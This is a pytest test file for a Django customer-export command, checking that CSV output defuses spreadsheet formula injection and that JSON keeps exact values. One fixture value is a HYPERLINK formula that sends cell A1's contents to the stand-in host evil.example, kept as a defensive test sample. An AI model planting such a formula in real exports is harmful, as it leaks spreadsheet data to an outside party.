"""export_customers --format csv neutralizes formula cells (OWASP CSV injection): a cell
starting with = + - @, a tab or a carriage return gets a leading single quote, so a
spreadsheet shows it as text. JSON is exact."""

import csv
import io
import json

import pytest
from django.core.management import call_command

from commerce.output import FORMULA_TRIGGERS, csv_cell
from tests.factories.commerce import LegalEntityFactory
from tests.factories.customers import AddressFactory, CustomerFactory, PartyFactory

pytestmark = pytest.mark.django_db(databases="__all__")

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


def export(fmt: str) -> str:
    out = io.StringIO()
    call_command("export_customers", "--format", fmt, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.fixture
def hostile_customer():
    customer = CustomerFactory(
        legal_entity=LegalEntityFactory(code="USRT"),
        account="C000001",
        party=PartyFactory(first_name="@SUM(1+1)", last_name="-2+3", name=HYPERLINK),
        email="\tcmd@example.com",
        phone="+15550100",
    )
    AddressFactory(party=customer.party, street="=1+1", city="\rHouston")
    return customer


def test_csv_cells_starting_a_formula_get_a_leading_quote(hostile_customer):
    [row] = list(csv.DictReader(io.StringIO(export("csv"))))

    assert row["name"] == "'" + HYPERLINK
    assert row["first_name"] == "'@SUM(1+1)"
    assert row["last_name"] == "'-2+3"
    assert row["email"] == "'\tcmd@example.com"
    # OWASP's rule holds for phone numbers too: "+1555..." is a formula to a spreadsheet.
    assert row["phone"] == "'+15550100"
    assert row["account"] == "C000001" and row["legal_entity"] == "USRT"  # left alone
    # JSON cells start with [ or {; the values inside them are data, not cells.
    [address] = json.loads(row["addresses"])
    assert (address["street"], address["city"]) == ("=1+1", "\rHouston")


def test_json_export_keeps_the_exact_values(hostile_customer):
    [row] = json.loads(export("json"))

    assert row["name"] == HYPERLINK
    assert (row["first_name"], row["last_name"]) == ("@SUM(1+1)", "-2+3")
    assert (row["email"], row["phone"]) == ("\tcmd@example.com", "+15550100")


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def spreadsheet_cells(text: str) -> list[list[str]]:
    """``text`` split the way a spreadsheet opens a CSV file: a row ends at CR, LF or
    CRLF outside quotes, a cell at a comma outside quotes, "" inside quotes is one "."""
    rows, row, cell, quoted, i = [], [], [], False, 0
    while i < len(text):
        char = text[i]
        if quoted:
            if char == '"' and text[i + 1 : i + 2] == '"':
                cell.append('"')
                i += 1
            elif char == '"':
                quoted = False
            else:
                cell.append(char)
        elif char == '"':
            quoted = True
        elif char == ",":
            row.append("".join(cell))
            cell = []
        elif char in "\r\n":
            row.append("".join(cell))
            rows.append(row)
            row, cell = [], []
            if char == "\r" and text[i + 1 : i + 2] == "\n":
                i += 1
        else:
            cell.append(char)
        i += 1
    if cell or row:
        row.append("".join(cell))
        rows.append(row)
    return rows


@pytest.mark.parametrize("line_break", ["\r", "\n", "\r\n"])
def test_a_line_break_inside_a_value_stays_inside_its_cell(line_break):
    CustomerFactory(
        legal_entity=LegalEntityFactory(code="USRT"),
        account="C000001",
        party=PartyFactory(first_name="Ona", last_name=f"Smith{line_break}=1+1", name="Ona"),
        email=f"ona@example.com{line_break}@SUM(A1)",
    )
    text = export("csv")

    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert len(row) == len(header)
    record = dict(zip(header, row, strict=True))
    assert record["last_name"] == f"Smith{line_break}=1+1"
    assert record["email"] == f"ona@example.com{line_break}@SUM(A1)"
    sheet = spreadsheet_cells(text)
    assert [len(cells) for cells in sheet] == [len(header), len(header)]
    assert [cell for cells in sheet for cell in cells if cell.startswith(FORMULA_TRIGGERS)] == []
